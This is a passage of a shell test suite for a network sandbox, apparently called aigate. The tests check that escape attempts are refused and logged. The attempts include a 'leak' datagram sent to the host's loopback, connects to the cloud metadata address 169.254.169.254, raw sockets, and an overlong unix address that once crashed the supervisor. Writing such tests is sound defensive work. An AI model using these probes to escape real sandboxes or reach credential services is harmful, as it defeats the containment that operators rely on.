# raced against a thread swapping the descriptor under the check leave it
# connected (the supervisor acts on the socket it judged, not on the number).
test_net_handed_socket_stays_put() {
	net_setup --private "allowed.test:8080"
	redteam_cc net_repoint "$PROJ/.rt/net_repoint"
	ag run --audit-log "$AUDIT" -- sh -c 'getent hosts allowed.test >/dev/null
.rt/net_repoint "$1" 8080 "$2" 8080' sh "$WEB_ADDR" "$DENIED_ADDR"
	assert_status 0
	assert_eq "$(tr '\n' '|' <"$OUT")" \
		"allowed ok|unspec errno=EISCONN|elsewhere errno=EISCONN|fastopen errno=EOPNOTSUPP|bind errno=EINVAL|listen errno=EINVAL|race intact|" \
		"every attempt on the handed-in socket"
	assert_net_denied "$AUDIT" action=connect enforcer=supervisor syscall=connect target=AF_UNSPEC \
		errno=EISCONN "reason=~cannot be pointed elsewhere"
	assert_net_denied "$AUDIT" action=connect enforcer=supervisor syscall=connect \
		"target=$DENIED_ADDR:8080" errno=EISCONN
	assert_net_denied "$AUDIT" action=connect enforcer=supervisor syscall=sendmsg \
		"target=TCP Fast Open" errno=EOPNOTSUPP
}

# The sandbox's own loopback: a server inside is reachable from inside
# (nothing to record); a port where nothing listens inside is ECONNREFUSED,
# recorded with the reason (someone looking for a host service).
test_net_loopback_inside() {
	net_setup --private "allowed.test:8080"
	ag run --audit-log "$AUDIT" -- python3 -c '
import errno, socket
srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen()
c = socket.create_connection(srv.getsockname(), timeout=10)
print("inside", "ok")
s = socket.socket()
try:
    s.connect(("127.0.0.1", 9))
    print("port 9 connected")
except OSError as e:
    print("port 9", errno.errorcode[e.errno])'
	assert_status 0
	assert_stdout_contains "inside ok"
	assert_stdout_contains "port 9 ECONNREFUSED"
	assert_eq "$(audit_count "$AUDIT" verdict=denied)" 1 "denials (the listener inside is not one)"
	assert_net_denied "$AUDIT" action=connect enforcer=supervisor syscall=connect target=127.0.0.1:9 \
		errno=ECONNREFUSED "reason=~the sandbox's own loopback"
}

# UDP leaves only as DNS to the stub: sendto and connect to another
# address are ENETUNREACH, recorded with the call; python is run with and
# without the shim (which refuses the connect itself).
test_net_udp() {
	net_setup --private "allowed.test:8080"
	local enforcer opt log
	for enforcer in shim supervisor; do
		opt=() log=$AUDIT
		[ "$enforcer" = supervisor ] && opt=(--no-shim) log=$T/noshim.jsonl
		ag run "${opt[@]}" --audit-log "$log" -- python3 -c '
import errno, socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b"x", ("192.0.2.1", 53))
    print("sendto sent")
except OSError as e:
    print("sendto", errno.errorcode[e.errno])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.connect(("192.0.2.1", 5353))
    print("connect ok")
except OSError as e:
    print("connect", errno.errorcode[e.errno])'
		assert_status 0
		assert_stdout_contains "sendto ENETUNREACH"
		assert_stdout_contains "connect ENETUNREACH"
		assert_net_denied "$log" action=connect enforcer=supervisor syscall=sendto target=192.0.2.1:53 errno=ENETUNREACH
		# python is dynamic: the shim refuses its connect in the process; without it, the supervisor.
		assert_net_denied "$log" action=connect "enforcer=$enforcer" syscall=connect target=192.0.2.1:5353 errno=ENETUNREACH
		[ "$enforcer" = supervisor ] || assert_no_audit "$log" enforcer=supervisor syscall=connect
	done
}

# UDP to a listener on the host's loopback: the datagram would reach only
# the sandbox's own loopback, where nothing is bound, so it is refused
# (ECONNREFUSED) and recorded, and the host's listener receives nothing.
# A UDP socket bound inside the sandbox is reachable from inside.
test_net_udp_loopback_listener() {
	net_setup --private "allowed.test:8080"
	"$PYTHON" -c '
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("127.0.0.88", 0))
print(s.getsockname()[1], flush=True)
open(sys.argv[1], "w").close()
while True:
    d, a = s.recvfrom(100)
    open(sys.argv[1], "a").write(d.decode() + "\n")' "$T/udp.got" >"$T/udp.port" &
	kill_later $!
	wait_until "the UDP listener" test -s "$T/udp.port"
	local port
	port=$(head -n1 "$T/udp.port")
	ag run --audit-log "$AUDIT" -- python3 -c '
import errno, socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b"leak", ("127.0.0.88", int(sys.argv[1])))
    print("sent")
except OSError as e:
    print("outside", errno.errorcode[e.errno])
inside = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
inside.bind(("127.0.0.1", 0))
s.sendto(b"hi", inside.getsockname())
print("inside", inside.recv(10).decode())' "$port"
	assert_status 0
	assert_stdout_contains "outside ECONNREFUSED"
	assert_stdout_contains "inside hi"
	assert_net_denied "$AUDIT" action=connect enforcer=supervisor syscall=sendto \
		"target=127.0.0.88:$port" errno=ECONNREFUSED "reason=~the sandbox's own loopback"
	# A marker sent from outside afterwards arrives: the listener was there all along.
	"$PYTHON" -c 'import socket, sys; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"marker", ("127.0.0.88", int(sys.argv[1])))' "$port"
	wait_until "the marker" grep -q marker "$T/udp.got"
	assert_file_not_contains "$T/udp.got" leak
}

# IPv6 literals are held to the same rule: ECONNREFUSED and a record (the
# target bracketed); an IPv4-mapped address is its IPv4 address (the
# metadata service stays out of reach that way too).
# Each is refused twice: by the shim in python (dynamic), and by the
# supervisor with --no-shim.
test_net_ipv6() {
	net_setup --private "allowed.test:8080"
	local enforcer opt log
	for enforcer in shim supervisor; do
		opt=() log=$AUDIT
		[ "$enforcer" = supervisor ] && opt=(--no-shim) log=$T/noshim.jsonl
		ag run "${opt[@]}" --audit-log "$log" -- python3 -c '
import errno, socket
for a in ("2001:db8::1", "::ffff:169.254.169.254"):
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    try:
        s.connect((a, 80))
        print(a, "connected")
    except OSError as e:
        print(a, errno.errorcode[e.errno])'
		assert_status 0
		assert_stdout_contains "2001:db8::1 ECONNREFUSED"
		assert_stdout_contains "::ffff:169.254.169.254 ECONNREFUSED"
		assert_net_denied "$log" action=connect "enforcer=$enforcer" syscall=connect "target=[2001:db8::1]:80" errno=ECONNREFUSED
		assert_net_denied "$log" action=connect "enforcer=$enforcer" syscall=connect "target=169.254.169.254:80" errno=ECONNREFUSED
	done
}

# ICMP and raw sockets: refused when created (EACCES, EPERM), recorded
# with the call.
test_net_icmp_raw() {
	net_setup --private "allowed.test:8080"
	ag run --audit-log "$AUDIT" -- python3 -c '
import errno, socket
for what, args in (("icmp", (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)),
                   ("raw", (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))):
    try:
        socket.socket(*args)
        print(what, "created")
    except OSError as e:
        print(what, errno.errorcode[e.errno])'
	assert_status 0
	assert_stdout_contains "icmp EACCES"
	assert_stdout_contains "raw EPERM"
	assert_net_denied "$AUDIT" action=connect enforcer=supervisor syscall=socket errno=EACCES
	assert_net_denied "$AUDIT" action=connect enforcer=supervisor syscall=socket errno=EPERM
}

# ping (iputils-ping) fails inside: it cannot get its ICMP socket (it stops
# earlier still, at prctl, as an unprivileged user in a user namespace).
test_net_ping() {
	if ! command -v ping >/dev/null 2>&1 && [ "$(id -u)" -eq 0 ] && command -v apt-get >/dev/null 2>&1; then
		DEBIAN_FRONTEND=noninteractive apt-get install -y iputils-ping >/dev/null 2>&1
	fi
	command -v ping >/dev/null 2>&1 || skip "ping (iputils-ping) is not installed (and cannot be installed: not root or no apt-get)"
	net_setup --private "allowed.test:8080"
	ag run --audit-log "$AUDIT" -- ping -c1 -W1 127.0.0.1
	case $STATUS in
	0 | 124) fail "ping should fail inside, and at once (exit status $STATUS)" ;;
	esac
	assert_stdout_not_contains "1 received"
}

# Abstract unix sockets belong to a network namespace: one the test listens
# on outside cannot be reached from inside under allow_net; without
# allow_net (the host's network) the same connect works.
test_net_abstract_unix() {
	net_setup --private "allowed.test:8080"
	local name=aigate-test-$RANDOM$RANDOM
	net_unix_listener "@$name" "hello from outside"
	local probe='
import errno, socket, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
try:
    s.connect("\0" + sys.argv[1])
    print("connected:", s.recv(100).decode().strip())
except OSError as e:
    print("connect", errno.errorcode[e.errno])'
	ag run --audit-log "$AUDIT" -- python3 -c "$probe" "$name"
	assert_status 0
	assert_stdout_is "connect ECONNREFUSED"
	NOTE="the same connect without allow_net"
	write_cfg <<<'deny_read: [".env"]'
	ag run --audit-log "$T/hostnet.jsonl" -- python3 -c "$probe" "$name"
	assert_status 0
	assert_stdout_is "connected: hello from outside"
}

# From a security review: a unix address longer than sockaddr_un (128
# bytes from ctypes) is EINVAL, as the kernel says, and the supervisor,
# which copies the path, goes on (it overflowed a buffer and died).
test_net_unix_address_too_long() {
	net_setup --private "allowed.test:8080"
	ag run --audit-log "$AUDIT" -- python3 -c '
import ctypes, errno, socket
libc = ctypes.CDLL(None, use_errno=True)
s = socket.socket(socket.AF_UNIX)
buf = ctypes.create_string_buffer(b"\x01\x00" + b"A" * 126, 128)
libc.connect(s.fileno(), buf, 128)
print("connect", errno.errorcode[ctypes.get_errno()])
print("then", open("/etc/hostname").read() != "")'
	assert_status 0
	assert_stdout_contains "connect EINVAL"
	assert_stdout_contains "then True"
}

# From a security review: a UDP socket handed to aigate as a standard
# descriptor would carry datagrams anywhere (sendmsg is not trapped):
# refused before anything runs, naming the descriptor.
test_net_inherited_udp_refused() {
	net_setup --private "allowed.test:8080"
	ag run --audit-log "$AUDIT" -- true </dev/udp/127.0.0.99/9
	assert_status 125
	assert_stderr_contains "allow_net: descriptor 0 is an IP datagram or raw socket"
	NOTE="the same without allow_net: the host's network is the sandbox's anyway"
	write_cfg <<<'deny_read: [".env"]'
	ag run --audit-log "$AUDIT" -- true </dev/udp/127.0.0.99/9
	assert_status 0
}

# ---- no network, the host's network ----------------------------------------------------

# `allow_net: []` (aigate deny net): nothing resolves, nothing connects,
# through the proxy or directly; each refusal recorded, nothing forwarded.
test_net_deny_all() {
	net_setup --private
	ag run --audit-log "$AUDIT" -- sh -c 'getent hosts allowed.test; echo "getent $?"
curl -s -o /dev/null -w "proxy %{http_code}\n" http://allowed.test:8080/
curl -s --noproxy "*" -o /dev/null "http://$1:8080/"; echo "direct $?"' sh "$WEB_ADDR"
	assert_status 0
	assert_stdout_contains "getent 2"
	assert_stdout_contains "proxy 403"
	assert_stdout_contains "direct 7"
	assert_net_denied "$AUDIT" action=dns enforcer=dns target=allowed.test
	assert_net_denied "$AUDIT" action=connect enforcer=proxy target=allowed.test:8080
	assert_net_denied "$AUDIT" action=connect enforcer=supervisor syscall=connect \
		"target=$WEB_ADDR:8080" errno=ECONNREFUSED
	assert_dns_not_forwarded allowed.test
}

# No allow_net key: the host's network as before: a server on the host's
# loopback is reached directly, aigate sets no proxy variable and leaves
# resolv.conf alone, and there is no egress to record anything.
test_net_host_network() {
	net_setup
	write_cfg <<<'deny_read: [".env"]'
	ag run --audit-log "$AUDIT" -- sh -c 'curl -sS --noproxy "*" "http://$1:8080/hello.txt"; echo "curl $?"
env | grep -ci "_proxy="; cat /etc/resolv.conf' sh "$WEB_ADDR"
	assert_status 0
	assert_stdout_contains "hello from allowed.test"
	assert_stdout_contains "curl 0"
	grep -qx 0 "$OUT" || fail "no proxy variable should be set inside"
	assert_stdout_not_contains "127.0.0.1:3128"
	assert_eq "$(grep '^nameserver' "$OUT")" "$(grep '^nameserver' /etc/resolv.conf)" "resolv.conf inside is the host's"
	assert_no_audit "$AUDIT" rule.text=allow_net
}

# Limits on what a peer controls: a request head past 16 KiB is refused
# (431) before anything is resolved or dialled, and the 257th proxy
# connection held open at once is closed and recorded (256 at most).
test_net_proxy_limits() {
	net_setup --private "allowed.test:8080"
	ag run --audit-log "$AUDIT" -- python3 -c '
import socket
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"GET http://allowed.test:8080/ HTTP/1.1\r\nHost: allowed.test:8080\r\nX-Pad: " + b"a" * 20000 + b"\r\n\r\n")
print("big", s.recv(100).split(b"\r\n")[0].decode())
held = []
for i in range(256):
    c = socket.create_connection(("127.0.0.1", 3128))
    held.append(c)
# Each held connection is served (its thread waits for a head): the next is over the limit.
extra = socket.create_connection(("127.0.0.1", 3128))
extra.settimeout(20)
print("extra", repr(extra.recv(10)))'
	assert_status 0
	assert_stdout_contains "big HTTP/1.1 431"
	assert_stdout_contains "extra b''"
	assert_net_denied "$AUDIT" action=connect enforcer=proxy "reason=~too many connections"
}
